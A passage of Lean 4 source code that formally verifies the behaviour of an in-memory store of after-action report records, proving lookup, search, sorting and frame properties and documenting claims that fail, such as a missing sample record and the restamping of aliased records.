      ["AAR-20251005-0001", "AAR-20250920-0002", "AAR-20250815-0004"] ∧
    GetByID (NewMemoryStore addDays h aar1 aar2 aar4 now) "AAR-20251005-0001" =
      Except.ok aar1 ∧
    GetByID (NewMemoryStore addDays h aar1 aar2 aar4 now) "AAR-20250920-0002" =
      Except.ok aar2 ∧
    GetByID (NewMemoryStore addDays h aar1 aar2 aar4 now) "AAR-20250815-0004" =
      Except.ok aar4 ∧
    (NewMemoryStore addDays h aar1 aar2 aar4 now).heap aar1 = sampleAAR1 addDays now ∧
    (NewMemoryStore addDays h aar1 aar2 aar4 now).heap aar2 = sampleAAR2 addDays now ∧
    (NewMemoryStore addDays h aar1 aar2 aar4 now).heap aar4 = sampleAAR4 addDays now ∧
    ((sampleAAR1 addDays now).ID = "AAR-20251005-0001" ∧
      (sampleAAR1 addDays now).Status = "Approved" ∧
      (sampleAAR1 addDays now).CreatedAt = addDays now (-32) ∧
      (sampleAAR1 addDays now).UpdatedAt = addDays now (-32) ∧
      (sampleAAR1 addDays now).SubmittedDate = addDays now (-32)) ∧
    ((sampleAAR2 addDays now).ID = "AAR-20250920-0002" ∧
      (sampleAAR2 addDays now).Status = "Approved" ∧
      (sampleAAR2 addDays now).CreatedAt = addDays now (-47) ∧
      (sampleAAR2 addDays now).UpdatedAt = addDays now (-47) ∧
      (sampleAAR2 addDays now).SubmittedDate = addDays now (-47)) ∧
    ((sampleAAR4 addDays now).ID = "AAR-20250815-0004" ∧
      (sampleAAR4 addDays now).Status = "Approved" ∧
      (sampleAAR4 addDays now).CreatedAt = addDays now (-83) ∧
      (sampleAAR4 addDays now).UpdatedAt = addDays now (-83) ∧
      (sampleAAR4 addDays now).SubmittedDate = addDays now (-83)) ∧
    GetAll sortSlice (NewMemoryStore addDays h aar1 aar2 aar4 now) ord = [aar1, aar2, aar4] := by
  have e1 := NewMemoryStore_heap1 addDays h aar1 aar2 aar4 now h12 h14
  have e2 := NewMemoryStore_heap2 addDays h aar1 aar2 aar4 now h24
  have e4 := NewMemoryStore_heap4 addDays h aar1 aar2 aar4 now
  have haars := NewMemoryStore_aars addDays h aar1 aar2 aar4 now h12 h14 h24
  have hvals := NewMemoryStore_values addDays h aar1 aar2 aar4 now h12 h14 h24
  have d1 : addDays now (-47) < addDays now (-32) := hadd now _ _ (by decide)
  have d2 : addDays now (-83) < addDays now (-47) := hadd now _ _ (by decide)
  refine ⟨?_, ?_, ?_, ?_, e1, e2, e4, ⟨rfl, rfl, rfl, rfl, rfl⟩, ⟨rfl, rfl, rfl, rfl, rfl⟩,
    ⟨rfl, rfl, rfl, rfl, rfl⟩, ?_⟩
  · rw [NewMemoryStore_keys addDays h aar1 aar2 aar4 now h12 h14 h24]
    exact (List.reverse_perm _).symm
  · apply GetByID_of_lookup; rw [haars]; rfl
  · apply GetByID_of_lookup; rw [haars]; rfl
  · apply GetByID_of_lookup; rw [haars]; rfl
  · have hp₁ : List.Perm (GetAll sortSlice (NewMemoryStore addDays h aar1 aar2 aar4 now) ord)
        (NewMemoryStore addDays h aar1 aar2 aar4 now).store.values := by
      rw [GetAll_eq]
      exact (hsort.perm _ _).trans (rangeValues_perm _ ord hord)
    have hp₂ : List.Perm [aar1, aar2, aar4]
        (NewMemoryStore addDays h aar1 aar2 aar4 now).store.values := by
      rw [hvals]; exact List.reverse_perm [aar4, aar2, aar1]
    refine sorted_perm_unique (NewMemoryStore addDays h aar1 aar2 aar4 now).heap _ _ _ ?_
      hp₁ hp₂ ?_ ?_
    · rw [hvals]
      simp only [List.map_cons, List.map_nil, e1, e2, e4]
      show [addDays now (-83), addDays now (-47), addDays now (-32)].Nodup
      simp only [List.nodup_cons, List.mem_cons, List.mem_singleton, List.not_mem_nil,
        not_or, not_false_eq_true, List.nodup_nil, and_true]
      exact ⟨⟨ne_of_lt d2, ne_of_lt (lt_trans d2 d1)⟩, ne_of_lt d1⟩
    · rw [GetAll_eq]; exact sortSlice_newestFirst sortSlice hsort _ _
    · simp only [List.pairwise_cons, List.mem_cons, List.mem_singleton, List.not_mem_nil,
        forall_eq_or_imp, forall_eq, e1, e2, e4, IsEmpty.forall_iff, implies_true,
        List.Pairwise.nil, and_true]
      show (addDays now (-47) ≤ addDays now (-32) ∧ addDays now (-83) ≤ addDays now (-32)) ∧
        addDays now (-83) ≤ addDays now (-47)
      exact ⟨⟨le_of_lt d1, le_of_lt (lt_trans d2 d1)⟩, le_of_lt d2⟩

/-- C17 fails on the code. `loadSampleData` stores sample records 1, 2 and 4
only: whatever the heap, the addresses and the seeding time, the identifier
`AAR-20251107-0003` of the banner is not a key of the fresh store and
`GetByID` returns the not-found error for it. -/
theorem NewMemoryStore_lacks_AAR_0003 (addDays : Time → Int → Time) (h : Heap)
    (aar1 aar2 aar4 : Ptr) (now : Time) :
    "AAR-20251107-0003" ∉ (NewMemoryStore addDays h aar1 aar2 aar4 now).store.aars.keys ∧
    GetByID (NewMemoryStore addDays h aar1 aar2 aar4 now) "AAR-20251107-0003" =
      Except.error "AAR not found: AAR-20251107-0003" := by
  have hID : ∀ p, p = aar1 ∨ p = aar2 ∨ p = aar4 →
      ((NewMemoryStore addDays h aar1 aar2 aar4 now).heap p).ID ≠ "AAR-20251107-0003" := by
    intro p hp
    rw [NewMemoryStore_heap]
    simp only [Heap.set]
    split_ifs with c4 c2 c1
    · show "AAR-20250815-0004" ≠ "AAR-20251107-0003"; decide
    · show "AAR-20250920-0002" ≠ "AAR-20251107-0003"; decide
    · show "AAR-20251005-0001" ≠ "AAR-20251107-0003"; decide
    · rcases hp with rfl | rfl | rfl
      · exact absurd rfl c1
      · exact absurd rfl c2
      · exact absurd rfl c4
  have hout : "AAR-20251107-0003" ∉
      (NewMemoryStore addDays h aar1 aar2 aar4 now).store.aars := by
    show "AAR-20251107-0003" ∉
      (((AList.insert ((NewMemoryStore addDays h aar1 aar2 aar4 now).heap aar1).ID aar1
      (∅ : AList (fun _ : String => Ptr))).insert
      ((NewMemoryStore addDays h aar1 aar2 aar4 now).heap aar2).ID aar2).insert
      ((NewMemoryStore addDays h aar1 aar2 aar4 now).heap aar4).ID aar4)
    simp only [AList.mem_insert, not_or]
    exact ⟨fun e => hID aar4 (Or.inr (Or.inr rfl)) e.symm,
      fun e => hID aar2 (Or.inr (Or.inl rfl)) e.symm,
      fun e => hID aar1 (Or.inl rfl) e.symm, AList.not_mem_empty _⟩
  exact ⟨hout, GetByID_of_absent _ _ (AList.lookup_eq_none.mpr hout)⟩

theorem addDaysUTC_mono : ∀ (t : Time) (d d' : Int), d < d' → addDaysUTC t d < addDaysUTC t d' := by
  intro t d d' hdd
  unfold addDaysUTC
  have key : ∀ x a b : Int, a < b → x + a * 86400 < x + b * 86400 := by
    intro x a b hab; omega
  exact key t d d' hdd

theorem Search_case_insensitive_witness :
    asciiToLower "" = "" ∧ SortContract insertionSortLessFunc ∧
    MapRange seededWorld.store
      ["AAR-20251005-0001", "AAR-20250920-0002", "AAR-20250815-0004"] ∧
    MapRange seededWorld.store
      ["AAR-20250815-0004", "AAR-20251005-0001", "AAR-20250920-0002"] ∧
    asciiToLower "shield" = asciiToLower "SHIELD" ∧ asciiToLower "" = asciiToLower "" ∧
    Search asciiToLower insertionSortLessFunc seededWorld
        ["AAR-20251005-0001", "AAR-20250920-0002", "AAR-20250815-0004"] "shield" "" "" =
      Search asciiToLower insertionSortLessFunc seededWorld
        ["AAR-20251005-0001", "AAR-20250920-0002", "AAR-20250815-0004"] "SHIELD" "" "" :=
  ⟨by decide, insertionSort_contract, by decide, by decide, by decide, rfl,
    (Search_case_insensitive asciiToLower (by decide) insertionSortLessFunc
      insertionSort_contract seededWorld
      ["AAR-20251005-0001", "AAR-20250920-0002", "AAR-20250815-0004"]
      ["AAR-20250815-0004", "AAR-20251005-0001", "AAR-20250920-0002"]
      (by decide) (by decide) "shield" "SHIELD" "" "" "" (by decide) rfl).1⟩

theorem Search_newest_first_witness :
    SortContract insertionSortLessFunc ∧
    ∀ (i j : Fin (Search asciiToLower insertionSortLessFunc exWorldDistinct ["A", "C"]
        "" "" "").length), i < j →
      (exWorldDistinct.heap ((Search asciiToLower insertionSortLessFunc exWorldDistinct
          ["A", "C"] "" "" "").get j)).SubmittedDate ≤
        (exWorldDistinct.heap ((Search asciiToLower insertionSortLessFunc exWorldDistinct
          ["A", "C"] "" "" "").get i)).SubmittedDate :=
  ⟨insertionSort_contract,
    Search_newest_first asciiToLower insertionSortLessFunc insertionSort_contract
      exWorldDistinct ["A", "C"] "" "" ""⟩

theorem GetStats_counts_witness :
    MapRange seededWorld.store
      ["AAR-20251005-0001", "AAR-20250920-0002", "AAR-20250815-0004"] ∧
    MapRange seededWorld.store
      ["AAR-20250815-0004", "AAR-20251005-0001", "AAR-20250920-0002"] ∧
    (GetStats seededWorld ["AAR-20251005-0001", "AAR-20250920-0002", "AAR-20250815-0004"]
      ["AAR-20250815-0004", "AAR-20251005-0001", "AAR-20250920-0002"]).total =
        seededWorld.store.aars.keys.length :=
  ⟨by decide, by decide,
    (GetStats_counts seededWorld
      ["AAR-20251005-0001", "AAR-20250920-0002", "AAR-20250815-0004"]
      ["AAR-20250815-0004", "AAR-20251005-0001", "AAR-20250920-0002"]
      (by decide) (by decide)).1⟩

theorem stored_ID_is_key_witness :
    Reachable addDaysUTC ((Call.create 3 10000005).after seededWorld) ∧
    ∀ k p, ((Call.create 3 10000005).after seededWorld).store.aars.lookup k = some p →
      (((Call.create 3 10000005).after seededWorld).heap p).ID = k :=
  ⟨Reachable.call _ _ (Reachable.init exHeap 0 1 2 10000000 (by decide) (by decide)
      (by decide)),
    (stored_ID_is_key addDaysUTC ((Call.create 3 10000005).after seededWorld)
      (Reachable.call _ _ (Reachable.init exHeap 0 1 2 10000000 (by decide) (by decide)
        (by decide)))).1⟩

theorem NewMemoryStore_contents_witness :
    (∀ (t : Time) (d d' : Int), d < d' → addDaysUTC t d < addDaysUTC t d') ∧
    SortContract insertionSortLessFunc ∧ (0 : Ptr) ≠ 1 ∧ (0 : Ptr) ≠ 2 ∧ (1 : Ptr) ≠ 2 ∧
    MapRange (NewMemoryStore addDaysUTC exHeap 0 1 2 10000000).store
      ["AAR-20250815-0004", "AAR-20251005-0001", "AAR-20250920-0002"] ∧
    GetAll insertionSortLessFunc (NewMemoryStore addDaysUTC exHeap 0 1 2 10000000)
      ["AAR-20250815-0004", "AAR-20251005-0001", "AAR-20250920-0002"] = [0, 1, 2] :=
  ⟨addDaysUTC_mono, insertionSort_contract, by decide, by decide, by decide, by decide,
    (NewMemoryStore_contents addDaysUTC addDaysUTC_mono insertionSortLessFunc
      insertionSort_contract exHeap 0 1 2 10000000 (by decide) (by decide) (by decide)
      ["AAR-20250815-0004", "AAR-20251005-0001", "AAR-20250920-0002"]
      (by decide)).2.2.2.2.2.2.2.2.2.2⟩

/-! ### Frames and filter composition -/

theorem Create_heap_other (w : World) (aar : Ptr) (now : Time) (p : Ptr) (hp : p ≠ aar) :
    (Create w aar now).1.heap p = w.heap p := by
  by_cases hin : (w.heap aar).ID ∈ w.store.aars
  · rw [Create_present w aar now hin]
  · rw [Create_fresh w aar now hin]
    exact Heap.set_other _ _ _ _ hp

theorem Update_heap_other (w : World) (aar : Ptr) (now : Time) (p : Ptr) (hp : p ≠ aar) :
    (Update w aar now).1.heap p = w.heap p := by
  by_cases hin : (w.heap aar).ID ∈ w.store.aars
  · rw [Update_present w aar now hin]
    exact Heap.set_other _ _ _ _ hp
  · rw [Update_absent w aar now hin]

theorem GetByID_congr (w w' : World) (k : String)
    (h : w'.store.aars.lookup k = w.store.aars.lookup k) : GetByID w' k = GetByID w k := by
  unfold GetByID; rw [h]

theorem GetByID_ok_lookup (w : World) (k : String) (p : Ptr)
    (h : GetByID w k = Except.ok p) : w.store.aars.lookup k = some p := by
  unfold GetByID at h
  cases hl : w.store.aars.lookup k with
  | none => rw [hl] at h; cases h
  | some q => rw [hl] at h; cases h; rfl

/-- The frame of `Create` and `Update` in reachable states. In every state
reached from `NewMemoryStore()` by calls on the store, `Create(r)` and
`Update(r)`, successful or not, change the store at most at `r.ID`: for every
other identifier `k`, `GetByID(k)` returns the same result after the call as
before, the same not-found error or the same record with every field and
timestamp as it was. -/
theorem Create_Update_frame (addDays : Time → Int → Time) (w : World)
    (hreach : Reachable addDays w) (aar : Ptr) (now : Time) (k : String)
    (hk : k ≠ (w.heap aar).ID) :
    (GetByID (Create w aar now).1 k = GetByID w k ∧
      ∀ p, GetByID w k = Except.ok p → (Create w aar now).1.heap p = w.heap p) ∧
    (GetByID (Update w aar now).1 k = GetByID w k ∧
      ∀ p, GetByID w k = Except.ok p → (Update w aar now).1.heap p = w.heap p) := by
  have hinv := Reachable.key_is_ID addDays w hreach
  have hne : ∀ p, GetByID w k = Except.ok p → p ≠ aar := by
    intro p hp hpa
    have hid := hinv k p (GetByID_ok_lookup w k p hp)
    rw [hpa] at hid
    exact hk hid.symm
  refine ⟨⟨?_, ?_⟩, ⟨?_, ?_⟩⟩
  · apply GetByID_congr
    rw [Create_lookup, if_neg (fun h => hk h.2)]
  · intro p hp
    exact Create_heap_other w aar now p (hne p hp)
  · apply GetByID_congr
    rw [Update_lookup, if_neg (fun h => hk h.2)]
  · intro p hp
    exact Update_heap_other w aar now p (hne p hp)

theorem Create_Update_frame_witness :
    Reachable addDaysUTC seededWorld ∧ "AAR-20251005-0001" ≠ (seededWorld.heap 3).ID ∧
    ((GetByID (Create seededWorld 3 10000005).1 "AAR-20251005-0001" =
        GetByID seededWorld "AAR-20251005-0001" ∧
      ∀ p, GetByID seededWorld "AAR-20251005-0001" = Except.ok p →
        (Create seededWorld 3 10000005).1.heap p = seededWorld.heap p) ∧
    (GetByID (Update seededWorld 3 10000005).1 "AAR-20251005-0001" =
        GetByID seededWorld "AAR-20251005-0001" ∧
      ∀ p, GetByID seededWorld "AAR-20251005-0001" = Except.ok p →
        (Update seededWorld 3 10000005).1.heap p = seededWorld.heap p)) :=
  ⟨Reachable.init exHeap 0 1 2 10000000 (by decide) (by decide) (by decide), by decide,
    Create_Update_frame addDaysUTC seededWorld
      (Reachable.init exHeap 0 1 2 10000000 (by decide) (by decide) (by decide))
      3 10000005 "AAR-20251005-0001" (by decide)⟩

theorem searchMatch_split (toLower : String → String) (operationName unit missionType : String)
    (r : AAR) :
    searchMatch toLower operationName unit missionType r = true ↔
      searchMatch toLower operationName "" "" r = true ∧
      searchMatch toLower "" unit "" r = true ∧
      searchMatch toLower "" "" missionType r = true := by
  simp only [searchMatch_iff, SearchSpec, true_or, and_true, true_and]

/-- C24. A record is in `Search(op, unit, mt)` exactly when it is in each of
`Search(op, "", "")`, `Search("", unit, "")` and `Search("", "", mt)`. Hence
the full search returns no record more often than any of the three
single-filter searches, and every search result is a sub-collection of
`GetAll()`. -/
theorem Search_filters_compose (toLower : String → String)
    (sortSlice : (Ptr → Ptr → Bool) → List Ptr → List Ptr) (hsort : SortContract sortSlice)
    (w : World) (ord ord' : List String)
    (hord : MapRange w.store ord) (hord' : MapRange w.store ord')
    (operationName unit missionType : String) :
    (∀ p, p ∈ Search toLower sortSlice w ord operationName unit missionType ↔
      p ∈ Search toLower sortSlice w ord' operationName "" "" ∧
      p ∈ Search toLower sortSlice w ord' "" unit "" ∧
      p ∈ Search toLower sortSlice w ord' "" "" missionType) ∧
    List.Subperm (Search toLower sortSlice w ord operationName unit missionType)
      (Search toLower sortSlice w ord' operationName "" "") ∧
    List.Subperm (Search toLower sortSlice w ord operationName unit missionType)
      (Search toLower sortSlice w ord' "" unit "") ∧
    List.Subperm (Search toLower sortSlice w ord operationName unit missionType)
      (Search toLower sortSlice w ord' "" "" missionType) ∧
    List.Subperm (Search toLower sortSlice w ord operationName unit missionType)
      (GetAll sortSlice w ord') := by
  have hfull := Search_perm_filter toLower sortSlice hsort w ord hord operationName unit
    missionType
  have hmem : ∀ (o : List String), MapRange w.store o → ∀ (a b c : String) (p : Ptr),
      p ∈ Search toLower sortSlice w o a b c ↔
        p ∈ w.store.values ∧ searchMatch toLower a b c (w.heap p) = true := by
    intro o ho a b c p
    rw [(Search_perm_filter toLower sortSlice hsort w o ho a b c).mem_iff, List.mem_filter]
  have hsub : ∀ (a b c : String),
      (∀ r, searchMatch toLower operationName unit missionType r = true →
        searchMatch toLower a b c r = true) →
      List.Subperm (Search toLower sortSlice w ord operationName unit missionType)
        (Search toLower sortSlice w ord' a b c) := by
    intro a b c himp
    have hmono : List.Sublist
        (w.store.values.filter
          (fun aar => searchMatch toLower operationName unit missionType (w.heap aar)))
        (w.store.values.filter (fun aar => searchMatch toLower a b c (w.heap aar))) :=
      List.monotone_filter_right _ (fun p hp => himp (w.heap p) hp)
    exact (hfull.subperm.trans hmono.subperm).trans
      (Search_perm_filter toLower sortSlice hsort w ord' hord' a b c).symm.subperm
  refine ⟨?_, ?_, ?_, ?_, ?_⟩
  · intro p
    rw [hmem ord hord, hmem ord' hord', hmem ord' hord', hmem ord' hord', searchMatch_split]
    constructor
    · rintro ⟨hp, h1, h2, h3⟩; exact ⟨⟨hp, h1⟩, ⟨hp, h2⟩, ⟨hp, h3⟩⟩
    · rintro ⟨⟨hp, h1⟩, ⟨_, h2⟩, ⟨_, h3⟩⟩; exact ⟨hp, h1, h2, h3⟩
  · exact hsub _ _ _ (fun r hr => ((searchMatch_split toLower _ _ _ r).mp hr).1)
  · exact hsub _ _ _ (fun r hr => ((searchMatch_split toLower _ _ _ r).mp hr).2.1)
  · exact hsub _ _ _ (fun r hr => ((searchMatch_split toLower _ _ _ r).mp hr).2.2)
  · have hall : List.Perm (GetAll sortSlice w ord') w.store.values := by
      rw [GetAll_eq]; exact (hsort.perm _ _).trans (rangeValues_perm w.store ord' hord')
    exact (hfull.subperm.trans (List.filter_sublist _).subperm).trans hall.symm.subperm

theorem Search_filters_compose_witness :
    SortContract insertionSortLessFunc ∧
    MapRange seededWorld.store
      ["AAR-20251005-0001", "AAR-20250920-0002", "AAR-20250815-0004"] ∧
    MapRange seededWorld.store
      ["AAR-20250815-0004", "AAR-20251005-0001", "AAR-20250920-0002"] ∧
    List.Subperm
      (Search asciiToLower insertionSortLessFunc seededWorld
        ["AAR-20251005-0001", "AAR-20250920-0002", "AAR-20250815-0004"]
        "exercise" "division" "Training Exercise")
      (GetAll insertionSortLessFunc seededWorld
        ["AAR-20250815-0004", "AAR-20251005-0001", "AAR-20250920-0002"]) :=
  ⟨insertionSort_contract, by decide, by decide,
    (Search_filters_compose asciiToLower insertionSortLessFunc insertionSort_contract
      seededWorld ["AAR-20251005-0001", "AAR-20250920-0002", "AAR-20250815-0004"]
      ["AAR-20250815-0004", "AAR-20251005-0001", "AAR-20250920-0002"]
      (by decide) (by decide) "exercise" "division" "Training Exercise").2.2.2.2⟩

/-- C25. When `r.ID` is not a key and the clock value `now` is strictly after
the `SubmittedDate` of every stored record, then after `Create(r)` at time
`now` the list returned by `GetAll()` starts with the new record and goes on
with the records stored before the call. -/
theorem Create_then_GetAll_head (sortSlice : (Ptr → Ptr → Bool) → List Ptr → List Ptr)
    (hsort : SortContract sortSlice) (w : World) (aar : Ptr) (now : Time)
    (hfresh : (w.heap aar).ID ∉ w.store.aars.keys)
    (hlater : ∀ p ∈ w.store.values, (w.heap p).SubmittedDate < now)
    (ord : List String) (hord : MapRange (Create w aar now).1.store ord) :
    (Create w aar now).2 = none ∧
    ∃ rest, GetAll sortSlice (Create w aar now).1 ord = aar :: rest ∧
      List.Perm rest w.store.values ∧
      ((Create w aar now).1.heap aar).SubmittedDate = now := by
  have hcreate := Create_fresh w aar now hfresh
  have hvals : (Create w aar now).1.store.values = aar :: w.store.values := by
    rw [hcreate]
    unfold MemoryStore.values
    show List.map (fun e => e.2) (AList.insert (w.heap aar).ID aar w.store.aars).entries = _
    rw [AList.insert_entries_of_neg hfresh]
    rfl
  have hperm : List.Perm (GetAll sortSlice (Create w aar now).1 ord) (aar :: w.store.values) := by
    rw [← hvals, GetAll_eq]
    exact (hsort.perm _ _).trans (rangeValues_perm _ ord hord)
  have hsorted : List.Pairwise
      (fun a b => ((Create w aar now).1.heap b).SubmittedDate ≤
        ((Create w aar now).1.heap a).SubmittedDate)
      (GetAll sortSlice (Create w aar now).1 ord) := by
    rw [GetAll_eq]; exact sortSlice_newestFirst sortSlice hsort _ _
  have hSDaar : ((Create w aar now).1.heap aar).SubmittedDate = now := by
    rw [hcreate]; simp [Heap.set_same]
  have hSDold : ∀ p ∈ w.store.values, p ≠ aar →
      ((Create w aar now).1.heap p).SubmittedDate < now := by
    intro p hp hne
    rw [Create_heap_other w aar now p hne]
    exact hlater p hp
  refine ⟨by rw [hcreate], ?_⟩
  cases hl : GetAll sortSlice (Create w aar now).1 ord with
  | nil =>
    rw [hl] at hperm
    exact absurd hperm.length_eq (by simp)
  | cons x rest =>
    rw [hl] at hperm hsorted
    have hx : x = aar := by
      by_contra hne
      have hxmem : x ∈ aar :: w.store.values := hperm.mem_iff.mp (List.mem_cons_self _ _)
      have hxold : x ∈ w.store.values := by
        rcases List.mem_cons.mp hxmem with h | h
        · exact absurd h hne
        · exact h
      have haar : aar ∈ x :: rest := hperm.mem_iff.mpr (List.mem_cons_self _ _)
      have haar' : aar ∈ rest := by
        rcases List.mem_cons.mp haar with h | h
        · exact absurd h.symm hne
        · exact h
      have hle := (List.pairwise_cons.mp hsorted).1 aar haar'
      rw [hSDaar] at hle
      exact absurd (hSDold x hxold hne) (not_lt.mpr hle)
    subst hx
    exact ⟨rest, rfl, hperm.cons_inv, hSDaar⟩

theorem Create_then_GetAll_head_witness :
    SortContract insertionSortLessFunc ∧
    (seededWorld.heap 3).ID ∉ seededWorld.store.aars.keys ∧
    (∀ p ∈ seededWorld.store.values, (seededWorld.heap p).SubmittedDate < 10000005) ∧
    MapRange (Create seededWorld 3 10000005).1.store
      ["AAR-20251005-0001", "C", "AAR-20250920-0002", "AAR-20250815-0004"] ∧
    ((Create seededWorld 3 10000005).2 = none ∧
      ∃ rest, GetAll insertionSortLessFunc (Create seededWorld 3 10000005).1
          ["AAR-20251005-0001", "C", "AAR-20250920-0002", "AAR-20250815-0004"] = 3 :: rest ∧
        List.Perm rest seededWorld.store.values ∧
        ((Create seededWorld 3 10000005).1.heap 3).SubmittedDate = 10000005) :=
  ⟨insertionSort_contract, by decide, by decide, by decide,
    Create_then_GetAll_head insertionSortLessFunc insertionSort_contract seededWorld 3
      10000005 (by decide) (by decide)
      ["AAR-20251005-0001", "C", "AAR-20250920-0002", "AAR-20250815-0004"] (by decide)⟩

/-- C23, as stated, fails. The store hands out live pointers. When a client
has rewritten the `ID` of the record stored under `A` to `Z`, `Create` of that
same record succeeds, and the record that `GetByID("A")` returns, the same
pointer before and after, has its `CreatedAt`, `UpdatedAt` and
`SubmittedDate` moved from 5 to 99, although `A` differs from the record's
`ID`. -/
theorem Create_restamps_aliased_record :
    "A" ≠ (exWorldAliased.heap 0).ID ∧
    (Create exWorldAliased 0 99).2 = none ∧
    GetByID exWorldAliased "A" = Except.ok 0 ∧
    GetByID (Create exWorldAliased 0 99).1 "A" = Except.ok 0 ∧
    (exWorldAliased.heap 0).CreatedAt = 5 ∧
    ((Create exWorldAliased 0 99).1.heap 0).CreatedAt = 99 ∧
    ((Create exWorldAliased 0 99).1.heap 0).UpdatedAt = 99 ∧
    ((Create exWorldAliased 0 99).1.heap 0).SubmittedDate = 99 ∧
    (Create exWorldAliased 0 99).1.heap 0 ≠ exWorldAliased.heap 0 := by
  refine ⟨by decide, by decide, rfl, rfl, by decide, by decide, by decide, by decide,
    by decide⟩

/-- C23, amended. `Create(r)` and `Update(r)` change the store only at `r.ID`
as long as `r` is not itself the record stored under the other identifier:
for every identifier `k` different from `r.ID` under which `r` is not stored,
`GetByID(k)` returns the same result after the call as before, the same
not-found error or the same record with every field and timestamp as it was.
In every state reached from `NewMemoryStore()` by calls on the store, `r` is
stored under no identifier other than `r.ID`. -/
theorem Create_Update_frame_unaliased (w : World) (aar : Ptr) (now : Time) (k : String)
    (hk : k ≠ (w.heap aar).ID) :
    (w.store.aars.lookup k ≠ some aar →
      (GetByID (Create w aar now).1 k = GetByID w k ∧
        ∀ p, GetByID w k = Except.ok p → (Create w aar now).1.heap p = w.heap p) ∧
      (GetByID (Update w aar now).1 k = GetByID w k ∧
        ∀ p, GetByID w k = Except.ok p → (Update w aar now).1.heap p = w.heap p)) ∧
    (∀ addDays : Time → Int → Time, Reachable addDays w →
      w.store.aars.lookup k ≠ some aar) := by
  constructor
  · intro hnot
    have hne : ∀ p, GetByID w k = Except.ok p → p ≠ aar := by
      intro p hp hpa
      exact hnot (hpa ▸ GetByID_ok_lookup w k p hp)
    refine ⟨⟨?_, ?_⟩, ⟨?_, ?_⟩⟩
    · apply GetByID_congr
      rw [Create_lookup, if_neg (fun h => hk h.2)]
    · intro p hp
      exact Create_heap_other w aar now p (hne p hp)
    · apply GetByID_congr
      rw [Update_lookup, if_neg (fun h => hk h.2)]
    · intro p hp
      exact Update_heap_other w aar now p (hne p hp)
  · intro addDays hreach hstored
    exact hk (Reachable.key_is_ID addDays w hreach k aar hstored).symm

theorem Create_Update_frame_unaliased_witness :
    "AAR-20251005-0001" ≠ (seededWorld.heap 3).ID ∧
    seededWorld.store.aars.lookup "AAR-20251005-0001" ≠ some 3 ∧
    ((GetByID (Create seededWorld 3 10000005).1 "AAR-20251005-0001" =
        GetByID seededWorld "AAR-20251005-0001" ∧
      ∀ p, GetByID seededWorld "AAR-20251005-0001" = Except.ok p →
        (Create seededWorld 3 10000005).1.heap p = seededWorld.heap p) ∧
    (GetByID (Update seededWorld 3 10000005).1 "AAR-20251005-0001" =
        GetByID seededWorld "AAR-20251005-0001" ∧
      ∀ p, GetByID seededWorld "AAR-20251005-0001" = Except.ok p →
        (Update seededWorld 3 10000005).1.heap p = seededWorld.heap p)) :=
  ⟨by decide, by decide,
    (Create_Update_frame_unaliased seededWorld 3 10000005 "AAR-20251005-0001"
      (by decide)).1 (by decide)⟩

end storage

/-! ## The handlers: lemmas and claims -/

namespace handlers

open models storage

/-! ### Decimal digits -/

theorem toDigitsCore_step (f n : Nat) (ds : List Char) :
    Nat.toDigitsCore 10 (f + 1) n ds =
      if n / 10 = 0 then Nat.digitChar (n % 10) :: ds
      else Nat.toDigitsCore 10 f (n / 10) (Nat.digitChar (n % 10) :: ds) := rfl

theorem toDigits_lt_10 (n : Nat) (h : n < 10) : Nat.toDigits 10 n = [Nat.digitChar n] := by
  unfold Nat.toDigits
  rw [toDigitsCore_step, if_pos (by omega), Nat.mod_eq_of_lt h]

theorem toDigits_lt_100 (n : Nat) (h₁ : 10 ≤ n) (h₂ : n < 100) :
    Nat.toDigits 10 n = [Nat.digitChar (n / 10), Nat.digitChar (n % 10)] := by
  obtain ⟨m, rfl⟩ : ∃ m, n = m + 1 := ⟨n - 1, by omega⟩
  unfold Nat.toDigits
  rw [toDigitsCore_step, if_neg (by omega), toDigitsCore_step, if_pos (by omega),
    Nat.mod_eq_of_lt (a := (m + 1) / 10) (by omega)]

theorem toDigits_lt_1000 (n : Nat) (h₁ : 100 ≤ n) (h₂ : n < 1000) :
    Nat.toDigits 10 n =
      [Nat.digitChar (n / 100), Nat.digitChar (n / 10 % 10), Nat.digitChar (n % 10)] := by
  obtain ⟨m, rfl⟩ : ∃ m, n = m + 2 := ⟨n - 2, by omega⟩
  unfold Nat.toDigits
  rw [toDigitsCore_step, if_neg (by omega), toDigitsCore_step, if_neg (by omega),
    toDigitsCore_step, if_pos (by omega), Nat.mod_eq_of_lt (a := (m + 2) / 10 / 10) (by omega),
    Nat.div_div_eq_div_mul]

theorem toDigits_lt_10000 (n : Nat) (h₁ : 1000 ≤ n) (h₂ : n < 10000) :
    Nat.toDigits 10 n =
      [Nat.digitChar (n / 1000), Nat.digitChar (n / 100 % 10), Nat.digitChar (n / 10 % 10),
        Nat.digitChar (n % 10)] := by
  obtain ⟨m, rfl⟩ : ∃ m, n = m + 3 := ⟨n - 3, by omega⟩
  unfold Nat.toDigits
  rw [toDigitsCore_step, if_neg (by omega), toDigitsCore_step, if_neg (by omega),
    toDigitsCore_step, if_neg (by omega), toDigitsCore_step, if_pos (by omega),
    Nat.mod_eq_of_lt (a := (m + 3) / 10 / 10 / 10) (by omega),
    Nat.div_div_eq_div_mul, Nat.div_div_eq_div_mul, Nat.div_div_eq_div_mul]

theorem digitChar_isDigit : ∀ d < 10, (Nat.digitChar d).isDigit = true := by decide

theorem digitChar_inj : ∀ a < 10, ∀ b < 10, Nat.digitChar a = Nat.digitChar b → a = b := by
  decide

theorem pad4_eq (n : Nat) (h : n < 10000) :
    List.replicate (4 - (Nat.toDigits 10 n).length) '0' ++ Nat.toDigits 10 n = digits4 n := by
  unfold digits4
  by_cases h1 : n < 10
  · rw [toDigits_lt_10 n h1]
    have e1 : n / 1000 % 10 = 0 := by omega
    have e2 : n / 100 % 10 = 0 := by omega
    have e3 : n / 10 % 10 = 0 := by omega
    have e4 : n % 10 = n := by omega
    rw [e1, e2, e3, e4]; rfl
  · by_cases h2 : n < 100
    · rw [toDigits_lt_100 n (by omega) h2]
      have e1 : n / 1000 % 10 = 0 := by omega
      have e2 : n / 100 % 10 = 0 := by omega
      have e3 : n / 10 % 10 = n / 10 := by omega
      rw [e1, e2, e3]; rfl
    · by_cases h3 : n < 1000
      · rw [toDigits_lt_1000 n (by omega) h3]
        have e1 : n / 1000 % 10 = 0 := by omega
        have e2 : n / 100 % 10 = n / 100 := by omega
        rw [e1, e2]; rfl
      · rw [toDigits_lt_10000 n (by omega) h]
        have e1 : n / 1000 % 10 = n / 1000 := by omega
        rw [e1]; rfl

theorem pad2_eq (n : Nat) (h : n < 100) :
